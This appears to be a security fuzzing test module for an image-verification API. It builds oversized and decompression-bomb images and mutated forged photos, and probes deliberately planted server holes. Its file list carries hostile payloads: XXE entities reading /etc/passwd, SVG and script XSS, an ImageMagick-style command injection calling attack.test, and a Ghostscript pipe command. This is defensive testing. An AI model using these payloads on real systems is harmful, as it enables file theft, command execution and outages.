// Pictures that break their reader, pictures that claim to be huge, and protected photographs with a little changed.
import { randomBytes, randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { crc32, deflateSync } from 'node:zlib';
import { shrinkToJpeg } from '@lumatrace/provenance/codec/alter.ts';
import { reply, type Family } from '../family.ts';
import { formShot, protectShot, verifyShot } from '../picture-form.ts';
import type { Random } from '../random.ts';
import { wasServed } from '../scene.ts';
import type { Answer } from '../shot.ts';

const PHOTO = fileURLToPath(new URL('../../../../../fixtures/photos/dandelion.jpg', import.meta.url));
const SIDE_PX = 1_024;
/** Of a collection of thousands; which of them is drawn by the seed. */
const COLLECTED = 2_500;
const MUTANTS = 500;
const FORGERIES = 500;
/** Each looks through the whole picture for a mark. */
const IDENTIFIED = 120;
const PROTECTED = 120;

export const pictures: Family = {
  name: 'pictures',
  about: 'malformed pictures, pictures that claim to be huge, other files that call themselves pictures',
  holes: [
    {
      name: 'whatever it is, it is authentic',
      open: ({ url }, { forward }) => (url.endsWith('/verify') ? reply(200, { authentic: true }) : forward()),
    },
    {
      name: 'a picture of any size is decoded',
      open: ({ body }, { forward }) =>
        body.includes('IHDR') && body.includes(Buffer.from([0, 0, 0xc3, 0x50])) ? reply(200, {}) : forward(),
    },
    {
      name: 'a broken picture breaks the server',
      open: ({ body }, { forward }) => (body.length < 800 ? reply(500, 'VipsJpeg: premature end') : forward()),
    },
  ],
  async run(scene) {
    const { random, stage } = scene;
    const ownPhoto = stage.own.ids['photoId'] ?? '';
    const photo = await shrinkToJpeg(readFileSync(PHOTO), SIDE_PX, 80);
    const huge = floods();
    const floodShots = huge.flatMap((image) => [
      verifyShot(scene.ownKey, image, ownPhoto),
      formShot(scene.ownKey, '/api/v1/photos/identify', { image }),
      protectShot(scene.ownKey, image),
    ]);
    await scene.volley(
      floodShots,
      (answer) => (wasServed(answer) ? 'a picture beyond the limits was decoded' : undefined),
      BUSY,
    );
    const collected = random.shuffled(stage.corpora.pictures).slice(0, COLLECTED);
    const changed = Array.from({ length: Math.min(MUTANTS, stage.most * 2) }, () => mutated(random, photo));
    const all = [...collected.map(({ bytes }) => bytes), ...changed, ...others(photo)];
    await scene.volley(
      all.map((image) => verifyShot(scene.ownKey, image, ownPhoto)),
      falselyAuthentic,
      BUSY,
    );
    const few = random.shuffled(all);
    await scene.volley(
      few.slice(0, IDENTIFIED).map((image) => formShot(scene.ownKey, '/api/v1/photos/identify', { image })),
      undefined,
      BUSY,
    );
    await scene.volley(
      few.slice(0, PROTECTED).map((image) => protectShot(scene.ownKey, image)),
      undefined,
      BUSY,
    );
  },
};

/** Pictures wait for a worker and memory; when both are taken, 503 with Retry-After is the right answer. */
const BUSY = { mayHangUp: false, mayBeUnavailable: true } as const;

function falselyAuthentic({ text }: Answer): string | undefined {
  return /"authentic"\s*:\s*true/.test(text) ? 'a picture that nobody protected is called authentic' : undefined;
}

export const forgeries: Family = {
  name: 'forgeries',
  about: 'protected photographs with bytes changed, cut, moved and added, and under another name',
  holes: [
    {
      name: 'the last bytes are not looked at',
      async open({ url }, { forward }) {
        const answer = await forward();
        const isVerdict = url.endsWith('/verify') && answer.status === 200;
        return isVerdict ? reply(200, { ...(JSON.parse(answer.body.toString()) as object), authentic: true }) : answer;
      },
    },
  ],
  needsForeign: true,
  async run(scene) {
    const { random, stage } = scene;
    const photo = await shrinkToJpeg(readFileSync(PHOTO), SIDE_PX, 80);
    const made = await scene.ask(protectShot(scene.ownKey, photo));
    const photoId = String(made.headers['x-photo-id'] ?? '');
    if (!wasServed(made) || photoId === '')
      throw new Error(`Expected a protected photograph but received ${made.status} ${made.text.slice(0, 200)}`);
    const honest = await scene.ask(verifyShot(scene.ownKey, made.body, photoId));
    if (falselyAuthentic(honest) === undefined)
      throw new Error(`Expected the photograph to be authentic but received ${honest.text.slice(0, 300)}`);
    const count = Math.min(FORGERIES, stage.most * 2);
    const forged = Array.from({ length: count }, () => mutated(random, made.body)).filter(
      (image) => !image.equals(made.body),
    );
    const plain = [
      photo,
      Buffer.concat([made.body, Buffer.from([0])]),
      Buffer.concat([made.body, made.body]),
      made.body.subarray(0, -2),
    ];
    await scene.volley(
      [...forged, ...plain].map((image) => verifyShot(scene.ownKey, image, photoId)),
      changedAuthentic,
      BUSY,
    );
    const ids = [stage.own.ids['photoId'] ?? '', stage.foreign?.ids['photoId'] ?? '', randomUUID(), '', 'x'];
    await scene.volley(
      ids.filter((id) => id !== photoId).map((id) => verifyShot(scene.ownKey, made.body, id)),
      falselyAuthentic,
      BUSY,
    );
    const theirs = { ...verifyShot(scene.ownKey, made.body, photoId) };
    theirs.headers = { ...theirs.headers, authorization: `Bearer ${stage.foreign?.apiKey}` };
    await scene.fire(
      theirs,
      (answer) => (wasServed(answer) ? "another tenant's photograph was verified" : undefined),
      BUSY,
    );
  },
};

function changedAuthentic({ text }: Answer): string | undefined {
  return /"authentic"\s*:\s*true/.test(text) ? 'a changed photograph is called authentic' : undefined;
}

function mutated(random: Random, image: Buffer): Buffer {
  const bytes = Buffer.from(image);
  const at = random.below(bytes.length);
  switch (random.below(6)) {
    case 0:
      return bytes.subarray(0, at);
    case 1:
      return Buffer.concat([bytes.subarray(0, at), random.bytes(1 + random.below(32)), bytes.subarray(at)]);
    case 2:
      return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 1 + random.below(64))]);
    case 3:
      bytes[at] = (bytes[at] ?? 0) ^ (1 << random.below(8));
      return bytes;
    case 4:
      // in the head, where markers and lengths stand
      bytes[random.below(Math.min(700, bytes.length))] = random.pick([0x00, 0x7f, 0xff]);
      return bytes;
    default:
      return Buffer.concat([bytes.subarray(at), bytes.subarray(0, at)]);
  }
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, check]);
}

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function png(width: number, height: number, more: readonly Buffer[] = []): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(Math.min((width * 3 + 1) * height, 40_000_000)), { level: 9 });
  return Buffer.concat([PNG, chunk('IHDR', head), ...more, chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

/** A baseline JPEG of one scan whose head claims the size. */
function jpegClaiming(width: number, height: number, marker: number): Buffer {
  const frame = Buffer.from([0xff, marker, 0x00, 0x0b, 0x08, 0, 0, 0, 0, 0x01, 0x01, 0x11, 0x00]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  const scan = Buffer.from([0xff, 0xda, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3f, 0x00]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), frame, scan, Buffer.alloc(2_000), Buffer.from([0xff, 0xd9])]);
}

function webpClaiming(side: number): Buffer {
  const extended = Buffer.alloc(18);
  extended.write('VP8X', 0, 'latin1');
  extended.writeUInt32LE(10, 4);
  extended.writeUIntLE(side - 1, 12, 3);
  extended.writeUIntLE(side - 1, 15, 3);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + extended.length);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), extended]);
}

/** None of these is within 16 million pixels, or none can be decoded without giving up a limit. */
function floods(): Buffer[] {
  const sides: [number, number][] = [[50_000, 50_000], [65_535, 65_535], [16_001, 1_000], [1, 17_000_000], [17_000_000, 1], [0x7fff_ffff, 0x7fff_ffff], [4_001, 4_000]]; // prettier-ignore
  return [
    ...sides.map(([width, height]) => png(width, height)),
    ...[0xc0, 0xc1, 0xc2].flatMap((marker) => [
      jpegClaiming(65_535, 65_535, marker),
      jpegClaiming(65_500, 300, marker),
    ]),
    ...[16_384, 100_000, 0xff_ffff].map(webpClaiming),
  ];
}

/** Files that are something else, and pictures with something in them. */
function others(photo: Buffer): Buffer[] {
  const bomb = Buffer.concat([Buffer.from('icc\0\0', 'latin1'), deflateSync(Buffer.alloc(40_000_000), { level: 9 })]);
  const text = Buffer.concat([
    Buffer.from('Comment\0\0', 'latin1'),
    deflateSync(Buffer.alloc(40_000_000), { level: 9 }),
  ]);
  const script = Buffer.from('<script>alert(1)</script>');
  const app = (marker: number, data: Buffer): Buffer => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([photo.subarray(0, 2), head, data, photo.subarray(2)]);
  };
  const jumbf = Buffer.concat([
    Buffer.from('JP\x00\x01\x00\x00\x00\x01', 'latin1'),
    Buffer.from('\x00\x00\x00\x20jumb\x00\x00\x00\x18jumdc2pa', 'latin1'),
  ]);
  return [
    png(300, 300, [chunk('iCCP', bomb)]),
    png(300, 300, [chunk('zTXt', text)]),
    png(300, 300, [
      chunk(
        'iTXt',
        Buffer.concat([
          Buffer.from('XML:com.adobe.xmp\0\x01\0\0\0', 'latin1'),
          deflateSync(Buffer.alloc(40_000_000), { level: 9 }),
        ]),
      ),
    ]),
    png(300, 300, [chunk('caBX', randomBytes(500))]),
    png(
      300,
      300,
      Array.from({ length: 2_000 }, (_, i) => chunk('tEXt', Buffer.from(`k${i}\0v`))),
    ),
    app(0xeb, jumbf),
    app(0xeb, Buffer.concat([jumbf, randomBytes(2_000)])),
    app(
      0xe1,
      Buffer.from(
        `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;</x:xmpmeta>`,
      ),
    ),
    app(0xe1, Buffer.from('Exif\0\0MM\0*\xff\xff\xff\xff', 'latin1')),
    Buffer.concat([photo, script]),
    Buffer.concat([script, photo]),
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>'),
    Buffer.from('%PDF-1.7'),
    Buffer.from('GIF89a\xff\xff\xff\xff', 'latin1'),
    Buffer.from('PK\x03\x04', 'latin1'),
    Buffer.from(
      'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://attack.test/"|id")\'\npop graphic-context',
    ),
    Buffer.from('%!PS\n(%pipe%id) (r) file'),
    Buffer.from('#!/bin/sh\nid'),
    Buffer.alloc(1_000),
    randomBytes(5_000),
    PNG,
    Buffer.from([0xff, 0xd8]),
    Buffer.from([0xff, 0xd8, 0xff]),
  ];
}
